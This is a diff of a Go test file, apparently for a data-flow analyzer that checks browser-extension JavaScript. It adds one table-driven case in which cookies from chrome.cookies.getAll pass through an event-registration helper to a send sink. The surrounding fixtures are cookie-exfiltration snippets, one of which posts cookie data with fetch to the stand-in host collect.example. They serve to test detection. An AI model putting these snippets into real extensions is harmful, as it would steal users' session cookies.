@@ -125,6 +125,7 @@ func TestFlowsThroughTheLanguage(t *testing.T) {
 		{"arguments", "", `function out(){ const d = arguments[0]; ` + send + ` } chrome.cookies.getAll({}, out)`, one},
 		{"rest", "", `function out(...a){ const d = a[0]; ` + send + ` } chrome.cookies.getAll({}, c => out(c, 1))`, one},
 		{"default parameter", "", `function out(d, u = "https://collect.example/x"){ fetch(u, {body: d}) } chrome.cookies.getAll({}, c => out(c))`, one},
+		{"nothing there yet", "", `const heard = {}; function on(name, fn){ if (heard[name] != null) throw Error(name); heard[name] = fn } on("jar", d => ` + send + `); chrome.cookies.getAll({}, c => heard.jar(c))`, one},
 		{"condition", "", `chrome.cookies.getAll({}, c => { const d = c.length ? c : null; if (d) ` + send + ` })`, one},
 		{"switch", "", `chrome.cookies.getAll({}, c => { let d; switch (Date.now()) { case 1: d = c; break; default: d = 2 } ` + send + ` })`, one},
 		{"try", "", `chrome.cookies.getAll({}, c => { try { var d = JSON.stringify(c); ` + send + ` } catch (e) { } finally { } })`, one},
